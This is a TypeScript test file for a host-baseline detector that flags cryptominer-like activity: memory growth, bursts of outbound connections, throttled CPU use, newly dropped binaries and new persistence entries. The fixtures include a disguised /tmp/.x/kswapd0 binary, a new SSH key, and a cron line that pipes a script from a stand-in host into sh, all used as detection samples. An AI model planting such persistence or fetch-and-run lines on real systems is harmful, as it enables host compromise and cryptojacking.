import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { Finding } from '../../core/finding.ts';
import { FindingSchema } from '../../core/finding.ts';
import type { HostSnapshot, ProcessInfo, SocketInfo } from '../../core/host-snapshot.ts';
import { declarationProblems, ruleCatalog } from '../catalog.ts';
import { processInfo, snapshot } from '../host/snapshot-fixture.ts';
import { HOST_BASELINE_RULES, HostBaselineDetector } from './index.ts';

const T0 = Date.parse('2026-11-29T10:00:00.000Z');
const START = '2026-11-29T09:00:00.000Z';

function at(i: number, intervalMs = 10_000): string {
  return new Date(T0 + i * intervalMs).toISOString();
}

function snap(i: number, processes: ProcessInfo[], parts: Partial<HostSnapshot> = {}): HostSnapshot {
  return snapshot({ takenAt: at(i), windowMs: 1000, processes, ...parts });
}

function proc(p: Partial<ProcessInfo> = {}): ProcessInfo {
  return processInfo({ pid: 4242, name: 'worker', exe: '/usr/bin/worker', startTime: START, ...p });
}

function run(d: HostBaselineDetector, snaps: readonly HostSnapshot[]): Finding[] {
  const out: Finding[] = [];
  for (const s of snaps) {
    const fs = d.observe(s);
    for (const f of fs) FindingSchema.parse(f);
    assert.deepEqual(declarationProblems(fs, HOST_BASELINE_RULES), []);
    out.push(...fs);
  }
  return out;
}

function outbound(pid: number, n: number, offset = 0): SocketInfo[] {
  return Array.from({ length: n }, (_, k) => ({
    protocol: 'tcp' as const,
    family: 4 as const,
    localIp: '10.0.0.5',
    localPort: 40_000 + offset + k,
    remoteIp: '203.0.113.9',
    remotePort: 3333,
    state: 'ESTABLISHED' as const,
    inode: String(900_000 + offset + k),
    uid: 0,
    netns: 'net:[1]',
    pid,
  }));
}

describe('host baselines', () => {
  test('the rules are valid catalog entries', () => {
    const d = new HostBaselineDetector();
    const ids = ruleCatalog([d]).map((e) => e.id);
    assert.deepEqual(ids, [
      'deminer.agent.connection_burst',
      'deminer.agent.memory_growth',
      'deminer.agent.new_executable',
      'deminer.agent.new_persistence',
      'deminer.agent.sustained_cpu',
    ]);
  });

  test('memory above 150 % of the median of the first samples is reported once per rise', () => {
    const d = new HostBaselineDetector();
    const MB = 1024 * 1024;
    const rss = [100, 104, 98, 500, 102, 101, 149, 260, 270, 400].map((x) => x * MB);
    const findings = run(
      d,
      rss.map((r, i) => snap(i, [proc({ rssBytes: r })])),
    );
    const mem = findings.filter((f) => f.rule.id === 'deminer.agent.memory_growth');
    // Baseline: median(100, 104, 98, 500, 102) = 102 MB, an outlier among the first samples ignored.
    // 149 MB is under 153 MB; 260 MB is growth (low); 270 MB the same state; 400 MB > 3× (medium).
    assert.deepEqual(
      mem.map((f) => [f.severity, f.evidence['rss_bytes']]),
      [
        ['low', 260 * MB],
        ['medium', 400 * MB],
      ],
    );
    assert.equal(mem[0]!.evidence['baseline_bytes'], 102 * MB);
    assert.equal(mem[0]!.process?.pid, 4242);
    assert.equal(mem[0]!['@timestamp'], at(7), 'time comes from the snapshot');
    assert.equal(mem[0]!.fingerprint, mem[1]!.fingerprint, 'same subject, same fingerprint');
  });

  test('a process seen for the first time is not compared with the baseline of a recycled pid', () => {
    const d = new HostBaselineDetector({ memorySamples: 2 });
    const MB = 1024 * 1024;
    const first = [0, 1, 2].map((i) => snap(i, [proc({ rssBytes: 50 * MB })]));
    const other = snap(3, [proc({ rssBytes: 500 * MB, startTime: '2026-11-29T10:00:25.000Z' })]);
    const findings = run(d, [...first, other]);
    assert.deepEqual(
      findings.filter((f) => f.rule.id === 'deminer.agent.memory_growth'),
      [],
    );
  });

  test('more than 50 new outbound connections within a minute is a burst; 50 is not', () => {
    const quiet = new HostBaselineDetector();
    const calm = run(quiet, [
      snap(0, [proc()], { sockets: outbound(4242, 5) }),
      snap(1, [proc()], { sockets: outbound(4242, 30, 100) }),
      snap(2, [proc()], { sockets: outbound(4242, 20, 200) }),
    ]);
    assert.deepEqual(
      calm.filter((f) => f.rule.id === 'deminer.agent.connection_burst'),
      [],
      'exactly 50 in a minute is not more than 50',
    );

    const d = new HostBaselineDetector();
    const findings = run(d, [
      // What a process already holds when first seen is its past, not a burst.
      snap(0, [proc()], { sockets: outbound(4242, 80) }),
      snap(1, [proc()], { sockets: outbound(4242, 30, 100) }),
      snap(2, [proc()], { sockets: outbound(4242, 15, 200), newOutbound: { '4242': 21 } }),
    ]);
    const burst = findings.filter((f) => f.rule.id === 'deminer.agent.connection_burst');
    assert.equal(burst.length, 1);
    assert.equal(burst[0]!.severity, 'medium');
    assert.equal(burst[0]!.evidence['connections_per_minute'], 51);
    assert.deepEqual((burst[0]!.evidence['destinations'] as string[]).slice(0, 1), ['203.0.113.9:3333']);

    // Over a minute later, the old connections have left the window.
    const later = run(d, [snap(9, [proc()], { sockets: outbound(4242, 10, 300) })]);
    assert.deepEqual(later, []);
  });

  test('accepted connections (to a port we listen on) are not outbound', () => {
    const d = new HostBaselineDetector();
    const listen: SocketInfo = { ...outbound(4242, 1)[0]!, localPort: 443, remotePort: 0, state: 'LISTEN' };
    const accepted = (n: number, off: number) =>
      outbound(4242, n, off).map((s, k) => ({ ...s, localPort: 443, remotePort: 50_000 + off + k }));
    const findings = run(d, [
      snap(0, [proc()], { sockets: [listen] }),
      snap(1, [proc()], { sockets: [listen, ...accepted(120, 0)] }),
    ]);
    assert.deepEqual(findings, []);
  });

  test('a steady capped duty cycle held for minutes is reported; bursty work is not', () => {
    const d = new HostBaselineDetector();
    const steady = Array.from({ length: 24 }, (_, i) =>
      snap(i, [
        proc({ cpuCores: 0.25 + (i % 2 ? 0.01 : -0.01), packaged: false, exe: '/tmp/.x/kswapd0' }),
        proc({ pid: 7, name: 'build', exe: '/usr/bin/build', cpuCores: i % 3 === 0 ? 1.8 : 0.02 }),
      ]),
    );
    const findings = run(d, steady).filter((f) => f.rule.id === 'deminer.agent.sustained_cpu');
    assert.equal(findings.length, 1, findings.map((f) => f.message).join('\n'));
    assert.equal(findings[0]!.process?.pid, 4242);
    assert.equal(findings[0]!.severity, 'high', 'a dropped binary');
    assert.equal(findings[0]!.evidence['pattern'], 'throttled');
    // Not before the minimum span: 3 minutes at 10 s intervals is the 19th snapshot.
    assert.equal(findings[0]!['@timestamp'], at(18));
  });

  test('snapshots without a window carry lifetime CPU and are not used for the duty cycle', () => {
    const d = new HostBaselineDetector();
    const findings = run(
      d,
      Array.from({ length: 30 }, (_, i) => snap(i, [proc({ cpuCores: 1 })], { windowMs: 0 })),
    );
    assert.deepEqual(
      findings.filter((f) => f.rule.id === 'deminer.agent.sustained_cpu'),
      [],
    );
  });

  test('new executables and new persistence lines since the last scan, not those of the first', () => {
    const d = new HostBaselineDetector();
    const cron = (text: string) => ({ path: '/etc/cron.d/job', kind: 'cron', text, truncated: false });
    const first = snap(0, [proc()], { files: [cron('# jobs\n0 * * * * root /usr/bin/backup\n')] });
    assert.deepEqual(run(d, [first]), [], 'the first snapshot is the baseline');
    const second = snap(
      1,
      [proc(), proc({ pid: 99, name: 'kswapd0', exe: '/tmp/.x/kswapd0', packaged: false })],
      {
        files: [
          cron('# jobs\n0 * * * * root /usr/bin/backup\n*/5 * * * * root /tmp/.x/kswapd0\n'),
          {
            path: '/root/.ssh/authorized_keys',
            kind: 'authorized-keys',
            text: 'ssh-ed25519 AAAA new@key\n',
            truncated: false,
          },
          { path: '/tmp/.x/config.json', kind: 'miner-config', text: '{"pools":[]}', truncated: false },
        ],
      },
    );
    const found = run(d, [second]);
    const byRule = (id: string) => found.filter((f) => f.rule.id === id);
    const exe = byRule('deminer.agent.new_executable');
    assert.equal(exe.length, 1);
    assert.equal(exe[0]!.process?.executable, '/tmp/.x/kswapd0');
    assert.equal(exe[0]!.severity, 'medium');
    const pers = byRule('deminer.agent.new_persistence');
    assert.deepEqual(
      pers.map((f) => [f.evidence['file'], f.evidence['line'], f.severity, f.threat.technique]),
      [
        ['/etc/cron.d/job', 3, 'medium', ['T1053.003']],
        ['/root/.ssh/authorized_keys', 1, 'low', ['T1098.004']],
      ],
    );
    // Seen once, known from then on.
    assert.deepEqual(run(d, [{ ...second, takenAt: at(2) }]), []);
  });

  test('a persistence file is looked at again whenever its text changes, and only then', () => {
    const d = new HostBaselineDetector();
    const cron = (text: string) => ({ path: '/etc/crontab', kind: 'cron', text, truncated: false });
    const base = '0 * * * * root /usr/bin/backup\n';
    const added = `${base}*/5 * * * * root curl -s http://x.example/i.sh | sh\n`;
    const lines = (fs: Finding[]) =>
      fs.filter((f) => f.rule.id === 'deminer.agent.new_persistence').map((f) => f.evidence['line']);
    assert.deepEqual(lines(run(d, [snap(0, [proc()], { files: [cron(base)] })])), []);
    assert.deepEqual(lines(run(d, [snap(1, [proc()], { files: [cron(base)] })])), []);
    assert.deepEqual(lines(run(d, [snap(2, [proc()], { files: [cron(added)] })])), [2]);
    assert.deepEqual(lines(run(d, [snap(3, [proc()], { files: [cron(added)] })])), []);
    // Gone and back, or back to an earlier text: those lines are known.
    assert.deepEqual(lines(run(d, [snap(4, [proc()], { files: [] })])), []);
    assert.deepEqual(lines(run(d, [snap(5, [proc()], { files: [cron(base)] })])), []);
    assert.deepEqual(
      lines(run(d, [snap(6, [proc()], { files: [cron(`${added}@reboot root /dev/shm/.k\n`)] })])),
      [3],
    );
  });

  test('tables are bounded: processes past the cap are evicted and counted', () => {
    const d = new HostBaselineDetector({ maxProcesses: 10, maxKnownExecutables: 5 });
    const procs = Array.from({ length: 40 }, (_, k) => proc({ pid: 1000 + k, exe: `/opt/p${k}` }));
    run(d, [snap(0, procs), snap(1, procs)]);
    const s = d.stats();
    assert.ok(s['processes']! <= 10);
    assert.ok(s['processesEvicted']! >= 30);
    assert.ok(s['knownExecutables']! <= 5);
  });

  test('does not mutate the snapshot it is given', () => {
    const d = new HostBaselineDetector();
    const s = snap(0, [proc()], { sockets: outbound(4242, 3) });
    const copy = structuredClone(s);
    d.observe(s);
    assert.deepEqual(s, copy);
  });
});
